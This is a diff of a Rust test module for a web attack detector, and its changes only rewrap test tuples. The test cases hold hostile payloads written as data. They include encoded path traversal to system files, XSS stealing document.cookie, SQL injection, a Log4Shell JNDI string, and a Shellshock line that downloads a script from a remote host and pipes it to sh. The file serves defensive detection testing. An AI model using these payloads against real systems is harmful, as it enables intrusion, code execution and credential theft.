@@ -308,12 +308,18 @@ mod tests {
         let cases = [
             // Overlong UTF-8 (IIS/Tomcat-era traversal), plain and double-encoded.
             ("/static/..%c0%af..%c0%afetc/passwd", "path_traversal"),
-            ("/scripts/..%c1%9c..%c1%9cwinnt/system32/cmd.exe", "path_traversal"),
+            (
+                "/scripts/..%c1%9c..%c1%9cwinnt/system32/cmd.exe",
+                "path_traversal",
+            ),
             ("/a/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/hosts", "path_traversal"),
             ("/a/..%e0%80%af..%e0%80%afetc/passwd", "path_traversal"),
             ("/a/..%25c0%25af..%25c0%25afboot.ini", "path_traversal"),
             // IIS %u encoding.
-            ("/search?q=%u003cscript%u003ealert(1)%u003c/script%u003e", "xss"),
+            (
+                "/search?q=%u003cscript%u003ealert(1)%u003c/script%u003e",
+                "xss",
+            ),
             ("/a/..%u2215..%u2215etc/passwd", "path_traversal"),
             ("/search?q=%uff1cscript%uff1e", "xss"),
             // HTML entities, JavaScript and CSS escapes.
@@ -344,12 +350,21 @@ mod tests {
             ("Mozilla/5.0' AND SLEEP(5)-- -", "sqli"),
             ("' OR 1=1--", "sqli"),
             ("sqlmap' UNION ALL SELECT NULL,NULL--", "sqli"),
-            ("() { :; }; /bin/bash -c 'curl http://198.51.100.1/x|sh'", "cmd_injection"),
+            (
+                "() { :; }; /bin/bash -c 'curl http://198.51.100.1/x|sh'",
+                "cmd_injection",
+            ),
             ("${jndi:ldap://198.51.100.1/a}", "cmd_injection"),
             ("<script>alert(1)</script>", "xss"),
-            ("https://evil.example/?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E", "xss"),
+            (
+                "https://evil.example/?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
+                "xss",
+            ),
             ("https://evil.example/?id=1'+or+'1'='1", "sqli"),
-            ("https://example.com/../../../../etc/passwd", "path_traversal"),
+            (
+                "https://example.com/../../../../etc/passwd",
+                "path_traversal",
+            ),
         ] {
             assert_eq!(d.detect_in_header(value), Some(want), "{value}");
         }
